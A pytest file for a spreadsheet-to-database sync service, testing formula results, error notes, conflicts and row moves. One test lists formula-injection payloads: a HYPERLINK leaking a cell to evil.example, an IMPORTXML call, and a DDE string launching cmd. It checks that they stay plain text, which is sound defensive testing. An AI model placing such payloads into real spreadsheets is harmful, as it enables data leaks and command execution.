"""Formulas: they feed the table, they are never overwritten, and what they show arrives without an edit."""

from __future__ import annotations

import decimal
from collections.abc import Iterator

import pytest
from main_job_world import MainJob, Orders, wait_for


@pytest.fixture(scope="module")
def sums(main_job: MainJob) -> Iterator[Orders]:
    """A link whose spreadsheet has another tab to compute from; each test takes orders of its own."""
    made = main_job.orders(8)
    main_job.add_tab(made.spreadsheet, "Help", [[3], [0]])
    yield made
    made.remove()


def help_with(sums: Orders, place: str, text: str) -> None:
    """Type into the tab that is not linked: nobody is told of edits there."""
    sums.person("edit", tab="Help", range=place, values=[[text]])


def test_what_a_formula_shows_reaches_the_table_whenever_it_changes(sums: Orders) -> None:
    row = sums.row(1)
    sums.type(f"D{row}:E{row}", ["=Help!A1*2", f"=D{row}+0.25"])
    wait_for(lambda: sums.stored(1)["price"] == decimal.Decimal("6.25"), "both results in the table")
    help_with(sums, "A1", "10")
    wait_for(lambda: sums.stored(1)["quantity"] == 20, "the new result in the table")
    wait_for(lambda: sums.stored(1)["price"] == decimal.Decimal("20.25"), "and what follows from it")
    sums.verify()
    assert sums.tab_state()["formulas"].items() >= {f"D{row}": "=Help!A1*2", f"E{row}": f"=D{row}+0.25"}.items()


def test_a_formula_that_cannot_be_computed_is_told_beside_its_cell_until_it_can(sums: Orders) -> None:
    row, before = sums.row(2), sums.stored(2)["quantity"]
    assert before == 2, "what the formula will come to in the end: nothing in the table changes then"
    sums.type(f"D{row}", ["=10/Help!A2"])
    note = wait_for(lambda: sums.note(2, "Quantity"), "the reason beside the cell")
    assert "#DIV/0!" in note
    assert sums.stored(2)["quantity"] == before
    help_with(sums, "A2", "5")
    wait_for(lambda: not sums.note(2, "Quantity"), "the note gone")
    sums.verify()


def test_no_text_from_the_table_becomes_a_formula_in_the_sheet(sums: Orders) -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "'=1+1", "\t=1+1", "=",
        '=IMPORTXML("http://evil.example","//a")', "\r=cmd|'/C calc'!A0", "\uff1d1+1",
    ]  # fmt: skip
    before = sums.tab_state()["formulas"]
    for text in hostile:
        sums.sql("INSERT INTO {table} (customer, item, quantity, notes) VALUES (%s, 'x', 1, %s)", text, text)
    wait_for(lambda: len([r for r in sums.sheet_rows() if r["Item"] == "x"]) == len(hostile), "all rows in the sheet")
    shown = sorted((row["Customer"], row["Notes"]) for row in sums.sheet_rows() if row["Item"] == "x")
    assert shown == sorted((text, text) for text in hostile)
    assert sums.tab_state()["formulas"] == before
    sums.verify()


def test_a_formula_wins_over_the_table_and_the_note_tells_what_it_replaced(sums: Orders) -> None:
    row = sums.row(3)
    sums.type(f"D{row}", ["=2+3"])
    wait_for(lambda: sums.stored(3)["quantity"] == 5, "its result in the table")
    sums.sql("UPDATE {table} SET quantity = 77, notes = 'beside it' WHERE order_no = 3")
    wait_for(lambda: sums.stored(3)["quantity"] == 5, "the formula's value back in the table")
    wait_for(lambda: sums.seen(3)["Notes"] == "beside it", "the ordinary cell in the sheet")
    (conflict,) = [c for c in sums.records("conflicts") if c["column"] == "quantity"]
    assert (conflict["rule"], conflict["winner"], conflict["sheet"], conflict["table"]) == (
        "formula", "sheet", "5", "77",
    )  # fmt: skip
    assert '"77"' in wait_for(lambda: sums.note(3, "Quantity"), "the conflict beside the cell")
    assert sums.tab_state()["formulas"][f"D{row}"] == "=2+3"
    sums.verify()


def test_formulas_stay_with_their_rows_when_rows_move_and_the_table_writes_beside_them(
    sums: Orders,
) -> None:
    for order_no in (4, 5, 6):
        sums.type(f"D{sums.row(order_no)}", [f"=E{sums.row(order_no)}*2"])
        sums.type_cell(order_no, "Price", str(order_no))
    there = [(4, 8), (5, 10), (6, 12)]  # both: a price that is still on its way would win over the statement below
    wait_for(
        lambda: [(sums.stored(n)["price"], sums.stored(n)["quantity"]) for n in (4, 5, 6)] == there,
        "results in the table",
    )
    sums.person("move_rows", tab=sums.tab, at=sums.row(4), count=1, to=9)
    sums.sql("UPDATE {table} SET notes = CONCAT('order ', order_no), price = price + 1 WHERE order_no IN (4, 5, 6)")
    wait_for(lambda: [sums.stored(n)["quantity"] for n in (4, 5, 6)] == [10, 12, 14], "results in the table")
    sums.verify()
    wanted = {f"D{sums.row(n)}": f"=E{sums.row(n)}*2" for n in (4, 5, 6)}
    assert sums.tab_state()["formulas"].items() >= wanted.items()
    assert [sums.seen(n)["Notes"] for n in (4, 5, 6)] == ["order 4", "order 5", "order 6"]
